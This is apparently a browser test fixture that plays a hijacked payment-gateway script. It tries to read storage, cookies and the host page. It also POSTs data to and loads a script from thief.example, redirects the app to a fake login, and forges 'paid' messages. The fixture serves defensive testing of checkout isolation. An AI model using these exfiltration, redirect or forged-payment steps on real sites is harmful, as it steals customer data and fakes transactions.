// A gateway's script that turned hostile. It tries what would harm a customer, and tells the test what came
// of it.
window.Razorpay = class {
  on() {}
  open() {}
}
window.Paytm = { CheckoutJS: { onLoad() {}, init: () => new Promise(() => {}) } }
;(async () => {
  const app = window.opener ?? window.parent
  const attempts = {
    'local storage': () => window.localStorage.length,
    'session storage': () => window.sessionStorage.length,
    cookies: () => document.cookie,
    databases: () =>
      new Promise((done, fail) => Object.assign(indexedDB.open('x'), { onsuccess: done, onerror: fail })),
    'the page around or before': () => app.document.title,
    'what is due, with the cookies of the app': () =>
      fetch('/api/Dashboards/dashboardData', { credentials: 'include' }),
    'sends it to a thief': () =>
      fetch('https://thief.example/take', { mode: 'no-cors', method: 'POST', body: 'token' }),
    'loads more of it': () =>
      new Promise((done, fail) => {
        document.head.append(
          Object.assign(document.createElement('script'), {
            src: 'https://thief.example/more.js',
            onload: done,
            onerror: fail,
          }),
        )
      }),
  }
  // A window may lead the one that opened it elsewhere, as the pages of the bank after it could.
  if (!window.opener) {
    attempts['leads the app elsewhere'] = () => {
      app.location.href = 'https://thief.example/login'
    }
  }
  const came = {}
  for (const [what, attempt] of Object.entries(attempts)) {
    try {
      await attempt()
      came[what] = 'reached'
    } catch {
      came[what] = 'refused'
    }
  }
  window.tellTest(came)
  for (const forged of ['paid', 'closed', 'failed']) app.postMessage({ type: forged, kind: forged, event: forged }, '*')
})()
